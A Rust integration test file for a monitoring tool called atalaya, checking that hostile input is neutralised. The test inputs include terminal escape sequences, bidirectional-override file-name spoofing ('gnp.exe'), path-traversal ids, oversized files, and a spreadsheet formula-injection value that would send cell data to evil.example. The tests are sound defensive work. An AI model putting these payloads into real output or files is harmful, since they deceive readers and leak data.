//! Hostile input through the binary: what a job, a file or an operator sends cannot reach a
//! terminal, a message or a page as anything but plain text.

#![allow(clippy::unwrap_used, clippy::too_many_lines)]

mod common;

use common::*;
use std::io::{BufRead, Read};
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

fn atalaya(args: &[&str]) -> std::process::Output {
    Command::new(env!("CARGO_BIN_EXE_atalaya"))
        .args(args)
        .env_remove("RUST_LOG")
        .output()
        .unwrap()
}

fn free_port() -> u16 {
    std::net::TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port()
}

/// Characters that move a cursor, overwrite a line, ring, end a string or turn text around.
fn raw_controls(text: &str) -> Vec<char> {
    text.chars()
        .filter(|c| {
            (c.is_control() && *c != '\n' && *c != '\t')
                || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
        })
        .collect()
}

#[test]
fn a_ping_body_reaches_operators_written_out_on_stdout_in_messages_and_in_the_outbox() {
    let w = workspace(
        "customers: [{ id: acme, name: Acme }]
services: [{ id: backups, customer: acme, name: Backups }]
checks: [{ id: backup-job, service: backups, heartbeat: { every: 1m } }]
",
    );
    let (file, db) = (w.file.to_str().unwrap(), w.db.to_str().unwrap());
    let port = free_port();
    let base = format!("http://127.0.0.1:{port}");
    let out = atalaya(&[
        "heartbeat",
        "url",
        "backup-job",
        "--file",
        file,
        "--db",
        db,
        "--base",
        &base,
    ]);
    let url = String::from_utf8(out.stdout).unwrap();
    let path = url.trim().strip_prefix(&base).unwrap().to_string();
    let mut runner = Running::spawn(
        Command::new(env!("CARGO_BIN_EXE_atalaya"))
            .args(["run", file, "--db", db, "--outbox", w.out.to_str().unwrap()])
            .args(["--listen", &format!("127.0.0.1:{port}")])
            .env_remove("RUST_LOG")
            .stdout(Stdio::piped())
            .stderr(Stdio::null()),
    );
    let stdout = runner.stdout.take().unwrap();
    let printed = std::sync::Arc::new(std::sync::Mutex::new(String::new()));
    let sink = printed.clone();
    std::thread::spawn(move || {
        let mut r = std::io::BufReader::new(stdout);
        let mut buf = Vec::new();
        while r.read_until(b'\n', &mut buf).unwrap_or(0) > 0 {
            sink.lock()
                .unwrap()
                .push_str(&String::from_utf8_lossy(&buf));
            buf.clear();
        }
    });
    let deadline = Instant::now() + Duration::from_secs(30);
    while std::net::TcpStream::connect(("127.0.0.1", port)).is_err() {
        assert!(Instant::now() < deadline, "the runner never listened");
        std::thread::sleep(Duration::from_millis(50));
    }
    let hostile = "\u{1b}[2J\u{1b}[31mdisk\rfull\u{7}\u{0} \u{202e}gnp.exe\r\nsecond line\n";
    assert_eq!(http(port, "POST", &format!("{path}/fail"), hostile).0, 200);
    wait_for(&w.out, "the operators' notice", |m| {
        has(m, "operators", "opened")
    });
    let messages = outbox(&w.out);
    let opened = messages
        .iter()
        .find(|m| {
            m["attributes"]["audience"] == "operators" && m["attributes"]["event"] == "opened"
        })
        .unwrap();
    let body = opened["body"].as_str().unwrap();
    assert_eq!(raw_controls(body), Vec::<char>::new(), "{body:?}");
    assert!(
        body.contains(
            "\\u{1b}[2J\\u{1b}[31mdisk\\rfull\\u{7}\\u{0} \\u{202e}gnp.exe\n      second line"
        ),
        "{body}"
    );
    // The runner's own terminal.
    let deadline = Instant::now() + Duration::from_secs(10);
    while !printed.lock().unwrap().contains("second line") {
        assert!(Instant::now() < deadline, "{}", printed.lock().unwrap());
        std::thread::sleep(Duration::from_millis(50));
    }
    interrupt(runner);
    let shown = printed.lock().unwrap().clone();
    assert_eq!(raw_controls(&shown), Vec::<char>::new(), "{shown:?}");
    // What `incident show --messages` prints.
    let out = atalaya(&["incident", "show", "inc-1", "--messages", "--db", db]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let mut show = String::new();
    out.stdout.as_slice().read_to_string(&mut show).unwrap();
    assert!(show.contains("gnp.exe"), "{show}");
    assert_eq!(raw_controls(&show), Vec::<char>::new(), "{show:?}");
}

/// A runner's database with one open incident (`inc-1`) on a target that answers 500, and the
/// report of its month; `name` is the portal's customer-facing name.
fn with_an_incident(name: &str) -> (Workspace, tokio::runtime::Runtime) {
    let rt = tokio::runtime::Runtime::new().unwrap();
    let addr = rt.block_on(atalaya_tests::http::server(None));
    atalaya_tests::http::set_switch("hostile-input", true);
    let w = workspace(&format!(
        "settings:
  allow_networks: [127.0.0.0/8]
  defaults: {{ interval: 1s, timeout: 500ms, retries: 1, recover_after: 1 }}
customers:
  - {{ id: initech, name: Initech, language: en, status_page: {{ slug: initech-4k2m9x }} }}
services:
  - {{ id: portal, customer: initech, name: '{name}' }}
checks:
  - {{ id: portal-home, service: portal, http: {{ url: 'http://{addr}/switch/hostile-input' }} }}
"
    ));
    let run = atalaya(&[
        "run",
        w.file.to_str().unwrap(),
        "--once",
        "--db",
        w.db.to_str().unwrap(),
        "--outbox",
        w.out.to_str().unwrap(),
    ]);
    assert!(
        run.status.success(),
        "{}",
        String::from_utf8_lossy(&run.stderr)
    );
    (w, rt)
}

#[test]
fn an_update_with_a_terminal_escape_or_a_bidi_override_is_never_sent_forced_or_not() {
    let (w, _rt) = with_an_incident("Customer portal");
    let db = w.db.to_str().unwrap();
    let before = outbox(&w.out).len();
    for message in [
        "We are on it.\u{1b}[2J\u{1b}]0;pwned\u{7}",
        "Fixed in \u{202e}txt.exe",
    ] {
        for force in [false, true] {
            let mut args = vec![
                "incident",
                "update",
                "inc-1",
                "--phase",
                "identified",
                "--message",
                message,
                "--db",
                db,
            ];
            if force {
                args.push("--force");
            }
            let out = atalaya(&args);
            let err = String::from_utf8_lossy(&out.stderr).to_string();
            assert_eq!(out.status.code(), Some(1), "{err}");
            assert!(err.contains("refused: nothing was sent."), "{err}");
            assert!(err.contains("it is never sent, even with --force"), "{err}");
        }
    }
    assert_eq!(outbox(&w.out).len(), before);
    // Plain words still go.
    let out = atalaya(&[
        "incident",
        "update",
        "inc-1",
        "--phase",
        "identified",
        "--message",
        "We found the cause.\n\nMore soon.",
        "--db",
        db,
    ]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    atalaya_tests::http::set_switch("hostile-input", false);
}

#[test]
fn a_report_cell_never_starts_a_formula() {
    let (w, _rt) = with_an_incident("=HYPERLINK(\"https://evil.example/?\"&A1,\"Portal\")");
    let month = chrono::Utc::now().format("%Y-%m").to_string();
    let out = atalaya(&[
        "report",
        "--month",
        &month,
        "--format",
        "csv",
        "--db",
        w.db.to_str().unwrap(),
    ]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let csv = String::from_utf8(out.stdout).unwrap();
    let row = csv.lines().nth(1).unwrap();
    let cells: Vec<String> = csv::Reader::from_reader(csv.as_bytes())
        .records()
        .next()
        .unwrap()
        .unwrap()
        .iter()
        .map(str::to_string)
        .collect();
    assert_eq!(
        cells[3], "'=HYPERLINK(\"https://evil.example/?\"&A1,\"Portal\")",
        "{row}"
    );
    for cell in &cells {
        assert!(!cell.starts_with(['=', '+', '-', '@']), "{row}");
    }
    atalaya_tests::http::set_switch("hostile-input", false);
}

#[test]
fn names_and_ids_that_would_break_a_page_a_badge_or_a_path_are_refused_with_where() {
    let w = workspace(
        "customers:
  - { id: '..', name: Dots }
  - { id: .hidden, name: Hidden }
  - { id: acme, name: \"ACME\\e[2J\" }
services:
  - { id: shop, customer: acme, name: \"Tienda \\u202Eenilno\" }
  - { id: web, customer: acme, name: Web }
checks:
  - { id: shop-home, service: shop, http: { url: 'https://shop.acme.example/' } }
",
    );
    let out = atalaya(&["validate", w.file.to_str().unwrap()]);
    let err = String::from_utf8_lossy(&out.stderr).to_string();
    assert_eq!(out.status.code(), Some(1), "{err}");
    for expected in [
        "checks.yaml:2:11: customer ..: id: ids are 1 to 64 letters, digits, '-', '_' or '.', starting with a letter or digit",
        "checks.yaml:3:11: customer .hidden: id: ids are 1 to 64 letters",
        "checks.yaml:4:23: customer acme: name: has U+001B (an escape, which starts terminal control sequences): it is shown to people as written; remove it",
        "checks.yaml:6:39: service shop: name: has U+202E (a bidirectional control, which reorders the text around it)",
    ] {
        assert!(err.contains(expected), "{expected}\nnot in:\n{err}");
    }
}

#[test]
fn a_customer_page_anyone_can_guess_is_said_by_validate() {
    let w = workspace(
        "customers:
  - { id: acme, name: ACME }
  - { id: globex, name: Globex, status_page: { slug: globex-8h3k2q } }
services:
  - { id: shop, customer: acme, name: Shop }
checks:
  - { id: shop-home, service: shop, http: { url: 'https://shop.acme.example/' } }
",
    );
    let out = atalaya(&["validate", w.file.to_str().unwrap()]);
    let err = String::from_utf8_lossy(&out.stderr).to_string();
    assert!(out.status.success(), "{err}");
    assert!(
        err.contains("checks.yaml:2:11: customer acme: status_page.slug: not set: the customer's status page is at /acme/, which anyone who knows the id can guess"),
        "{err}"
    );
    assert!(!err.contains("customer globex"), "{err}");
    let strict = atalaya(&["validate", "--strict", w.file.to_str().unwrap()]);
    assert_eq!(strict.status.code(), Some(1));
}

const SUBSCRIBED: &str = "settings:
  brand: { name: Acme, from: 'Acme Status <status@acme.example>' }
customers: [ { id: acme, name: ACME, status_page: { slug: acme-7f3k9q } } ]
services: [ { id: shop, customer: acme, name: Shop } ]
checks: [ { id: shop-home, service: shop, http: { url: 'https://shop.acme.example/' } } ]
";

#[test]
fn an_address_the_mailer_could_not_write_is_refused_when_added_or_imported() {
    let w = workspace(SUBSCRIBED);
    let (file, db) = (w.file.to_str().unwrap(), w.db.to_str().unwrap());
    for bad in ["a..b@x.example", ".lead@x.example", "x@-x.example"] {
        let out = atalaya(&[
            "subscribers",
            "add",
            "--customer",
            "acme",
            "--email",
            bad,
            "--confirmed",
            "--checks",
            file,
            "--db",
            db,
        ]);
        let err = String::from_utf8_lossy(&out.stderr);
        assert!(!out.status.success(), "{bad}: {err}");
        assert!(
            err.contains(&format!("{bad:?} is not an email address")),
            "{err}"
        );
    }
    let csv = w.file.with_file_name("subscribers.csv");
    std::fs::write(
        &csv,
        "customer,email\nacme,ana@x.example\nacme,a..b@x.example\n",
    )
    .unwrap();
    let out = atalaya(&[
        "subscribers",
        "import",
        csv.to_str().unwrap(),
        "--checks",
        file,
        "--db",
        db,
    ]);
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(!out.status.success(), "{err}");
    assert!(
        err.contains("subscribers.csv:3: \"a..b@x.example\" is not an email address"),
        "{err}"
    );
    assert!(err.contains("nothing was imported"), "{err}");
}

#[test]
fn a_subscriber_file_is_read_within_bounds_and_its_values_are_quoted_short() {
    let w = workspace(SUBSCRIBED);
    let (file, db) = (w.file.to_str().unwrap(), w.db.to_str().unwrap());
    // An endless file: refused after the first 16 MiB, not read whole.
    let t = Instant::now();
    let out = atalaya(&[
        "subscribers",
        "import",
        "/dev/zero",
        "--checks",
        file,
        "--db",
        db,
    ]);
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(!out.status.success(), "{err}");
    assert!(
        err.contains("/dev/zero") && err.contains("larger than"),
        "{err}"
    );
    eprintln!("/dev/zero refused in {:?}", t.elapsed());
    // A 5 MB field is named by its start and end, not echoed.
    let csv = w.file.with_file_name("subscribers.csv");
    let huge = "x".repeat(5 << 20);
    std::fs::write(
        &csv,
        format!("customer,email\nacme,{huge}\n{huge},ana@x.example\n"),
    )
    .unwrap();
    let out = atalaya(&[
        "subscribers",
        "import",
        csv.to_str().unwrap(),
        "--checks",
        file,
        "--db",
        db,
    ]);
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(!out.status.success());
    assert!(err.len() < 2_000, "{} bytes of error", err.len());
    assert!(
        err.contains("subscribers.csv:2: \"xxxxxxxx") && err.contains(" … "),
        "{err}"
    );
    assert!(
        err.contains("subscribers.csv:3: no customer \"xxxx"),
        "{err}"
    );
}
